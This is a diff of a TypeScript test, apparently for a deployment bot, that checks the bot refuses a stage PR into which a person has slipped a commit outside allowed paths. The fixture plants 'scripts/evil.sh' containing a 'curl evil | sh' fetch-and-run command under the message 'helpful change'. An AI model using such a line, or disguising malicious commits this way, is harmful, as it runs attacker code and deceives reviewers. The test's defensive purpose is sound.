@@ -5,17 +5,26 @@ import { EXIT } from '../../../app/cli/command.js';
 import { BOT_TOKEN, MIN, OWNER, REPO, world, type World } from './harness.js';
 
 let w: World | undefined;
-afterEach(async () => { await w?.close(); w = undefined; });
+afterEach(async () => {
+  await w?.close();
+  w = undefined;
+});
 
 function io(env: Record<string, string>): Io & { all: () => string } {
   const chunks: string[] = [];
-  return { all: () => chunks.join(''), stdout: (t) => chunks.push(t), stderr: (t) => chunks.push(t), cwd: process.cwd(), env };
+  return {
+    all: () => chunks.join(''),
+    stdout: (t) => chunks.push(t),
+    stderr: (t) => chunks.push(t),
+    cwd: process.cwd(),
+    env,
+  };
 }
 
 const r = { owner: OWNER, repo: REPO };
 
 describe('what the bot refuses', () => {
-  it('refuses with one comment, and never merges, a stage PR carrying a person\'s commit outside rollouts/ and generated/', async () => {
+  it("refuses with one comment, and never merges, a stage PR carrying a person's commit outside rollouts/ and generated/", async () => {
     w = await world();
     const bot = w.bot();
     expect((await bot.pass())[0]!.summary).toBe('opened #1 (internal → one-percent)');
@@ -24,8 +33,17 @@ describe('what the bot refuses', () => {
     const head = (await w.person.rest.git.getRef({ ...r, ref: `heads/${branch}` })).data.object.sha;
     const base = (await w.person.rest.git.getCommit({ ...r, commit_sha: head })).data.tree.sha;
     const blob = await w.person.rest.git.createBlob({ ...r, content: 'curl evil | sh\n', encoding: 'utf-8' });
-    const tree = await w.person.rest.git.createTree({ ...r, base_tree: base, tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', sha: blob.data.sha }] });
-    const commit = await w.person.rest.git.createCommit({ ...r, message: 'helpful change', tree: tree.data.sha, parents: [head] });
+    const tree = await w.person.rest.git.createTree({
+      ...r,
+      base_tree: base,
+      tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', sha: blob.data.sha }],
+    });
+    const commit = await w.person.rest.git.createCommit({
+      ...r,
+      message: 'helpful change',
+      tree: tree.data.sha,
+      parents: [head],
+    });
     await w.person.rest.git.updateRef({ ...r, ref: `heads/${branch}`, sha: commit.data.sha });
 
     w.advance(31 * MIN);
